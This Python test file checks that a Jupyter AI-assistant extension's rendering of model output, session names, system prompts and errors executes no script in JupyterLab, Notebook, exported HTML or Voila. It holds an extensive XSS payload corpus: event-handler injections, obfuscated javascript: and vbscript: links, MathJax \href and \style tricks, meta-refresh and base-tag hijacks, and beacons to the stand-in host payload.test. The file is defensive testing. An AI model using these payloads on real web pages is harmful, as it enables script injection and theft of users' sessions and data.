"""Nothing that a model writes, or a user types, runs in the reader's browser, in the places that trust a fresh output.

The answer below tries everything: scripts, event handlers, links, frames, forms, styles, pictures and macros of
mathematics that set `window.pwned`, change the title, or call home. It is published as the cells publish an answer, and
then answered by a model to a session, whose name, system message, prompt and error are of the same kind. The last
output of each notebook is raw HTML whose `onerror` does run: when it has run, so would have everything before it.
"""

from __future__ import annotations

from typing import Any

import nbformat
import pytest
from playwright.sync_api import Page

from .conftest import as_web_page, scripted

HOME_CALLED = "payload.test"
DO = "window.pwned=1;document.title='pwned'"
HOSTILE = rf"""# Hello <script>{DO}</script>

<script>{DO}</script>
<script src="http://{HOME_CALLED}/a.js"></script>
<img src=x onerror="{DO}"> <img src="http://{HOME_CALLED}/b.png"> ![c](http://{HOME_CALLED}/c.png)
<svg onload="{DO}"></svg> <svg><script>{DO}</script></svg>
<iframe src="javascript:parent.pwned=1"></iframe> <iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<details open ontoggle="{DO}">d</details> <input autofocus onfocus="{DO}">
<form action="http://{HOME_CALLED}/e"><button>e</button></form>
<style>body {{ background: url(http://{HOME_CALLED}/f.png) }}</style>
<link rel="stylesheet" href="http://{HOME_CALLED}/g.css"> <meta http-equiv="refresh" content="0;url=http://{HOME_CALLED}/h">
<object data="http://{HOME_CALLED}/i"></object> <video src="http://{HOME_CALLED}/j"></video>
<div style="background:url(http://{HOME_CALLED}/k.png)">k</div>
<base href="http://{HOME_CALLED}/"> &lt;img src=x onerror="{DO}"&gt;

[l](javascript:{DO}) [m](java&Tab;script:{DO}) [n](&#106;avascript:{DO}) [o](data:text/html,<script>{DO}</script>)
<javascript:{DO}> ![p](javascript:{DO})
[q](https://x.test "\" onmouseover=\"{DO}") [r](/hub/logout) [s](//{HOME_CALLED}/s)

| <img src=x onerror="{DO}"> | `<img src=x onerror="{DO}">` |
|:--|--:|
| [t](vbscript:{DO}) | <script>{DO}</script> |

```html
<script>{DO}</script><img src=x onerror="{DO}">
```

```"><img src=x onerror="{DO}">
u
```

    <script>{DO}</script>

$\href{{javascript:{DO}}}{{v}}$ $\style{{background:url(http://{HOME_CALLED}/w.png)}}{{w}}$
$a<img src=x onerror="{DO}">b$ $\bbox[background:url(http://{HOME_CALLED}/x.png)]{{x}}$
$\require{{html}}\href{{javascript:{DO}}}{{y}}$ `$\href{{javascript:z}}{{z}}$`

$$
\href{{javascript:{DO}}}{{z}} </div><script>{DO}</script>
$$

```python
</pre></div></div><script>{DO}</script>"""

PUBLISH = f"""
from IPython.display import display
from copilot_nb.conversation.parts import Reasoning, Text, ToolCall, TurnState
from copilot_nb.conversation.transcript import TurnRecord
from copilot_nb.render.turn import Label, turn_html, turn_text

text = {HOSTILE!r}
parts = (Reasoning("r", text), ToolCall("c", text, text, text, True), Text("t", text))
turn = TurnRecord("m", "hello", parts, TurnState.FAILED, text, notes=(text,), error=text)
label = Label(text, text, text)
for live in (True, False):
    display({{"text/html": turn_html(turn, label, live=live), "text/plain": turn_text(turn, label)}}, raw=True)
"""
WITNESS = """
from IPython.display import HTML
HTML("<img src='/no-such-picture' onerror='window.witness = true'>")
"""
# without the one that leads the page away, and the witness with it
PUBLISH_RAW = f"from IPython.display import HTML\nHTML({HOSTILE.replace('<meta', '<p')!r})"

NAME = f'<img src=x onerror="{DO}">'
FAILING = "please fail"
SESSION = (
    scripted(f"lambda asked: Reply(error=ChatError(400, {HOSTILE!r})) if {FAILING!r} in asked.prompt else {HOSTILE!r}"),
    f"import copilot_nb as cp\ncp.session({NAME!r}, system={HOSTILE!r}).create()",
    f"%%copilot '{NAME}'\n{HOSTILE}",  # 1 element of the class `copilot-nb`
    f"%copilot show '{NAME}'",  # the history: 1
    f"%%copilot '{NAME}' b --create\n{NAME}",  # 3: the columns and two turns
    "%copilot ls",
    "%copilot",
    f"%copilot use '{NAME}'",
    f"%%copilot '{NAME}' -m '{NAME}'\nx",  # errors from here on
    f"%%copilot '{NAME}'\n{FAILING}",
    f"%copilot rm '{NAME}2' -y",
    f"%copilot '{NAME}'",
    PUBLISH,  # 2
    WITNESS,
)
TURNS = 7

FOUND = """() => {
    const all = [...document.querySelectorAll('.copilot-nb, .copilot-nb *')];
    return {
        turns: document.querySelectorAll('.copilot-nb').length,
        tags: [...new Set(all.map(e => e.localName))].filter(t =>
            /^(script|img|svg|iframe|form|input|button|style|link|meta|object|embed|video|base)$/.test(t)),
        handlers: all.flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on')),
        schemes: [...new Set(all.filter(e => e.localName === 'a').map(e => e.protocol))].sort(),
    };
}"""


def assert_harmless(lab: Any, page: Page) -> None:
    page.wait_for_function("() => window.witness")
    assert page.evaluate("() => window.pwned") is None
    assert "pwned" not in page.title()
    assert [url for url in lab.refused if HOME_CALLED in url] == []
    found = page.evaluate(FOUND)
    assert found == {"turns": TURNS, "tags": [], "handlers": [], "schemes": ["http:", "https:"]}


@pytest.mark.parametrize("app", ["lab", "notebook"])
def test_nothing_runs_live_or_converted_but_the_same_text_does_when_published_raw(lab: Any, app: str) -> None:
    notebook = lab.open(*SESSION, PUBLISH_RAW, app=app)
    for cell in range(len(SESSION)):
        notebook.run(cell)
    kinds = [error.partition(":")[0] for cell in range(len(SESSION)) for error in notebook.errors(cell)]
    assert kinds == ["ProviderError", "TurnFailed", "SessionNotFound", "InputError"]
    notebook.page.wait_for_selector("mjx-container", state="attached")  # the harmless formula is typeset
    assert_harmless(lab, notebook.page)
    assert notebook.page.locator(".copilot-nb mjx-container a").count() == 0
    notebook.save()
    converted = lab.visit(as_web_page(notebook.path))
    assert_harmless(lab, converted)
    converted.close()
    notebook.run(len(SESSION))
    notebook.page.wait_for_function("() => window.pwned")
    assert [url for url in lab.refused if HOME_CALLED in url]


def test_nothing_runs_in_voila(lab: Any) -> None:
    path = lab.write(*SESSION)
    notebook = nbformat.read(path, as_version=4)
    for cell in notebook.cells:
        cell.metadata["tags"] = ["raises-exception"]  # an error stops nothing
    nbformat.write(notebook, path)
    assert_harmless(lab, lab.visit(f"voila/render/{path.name}"))
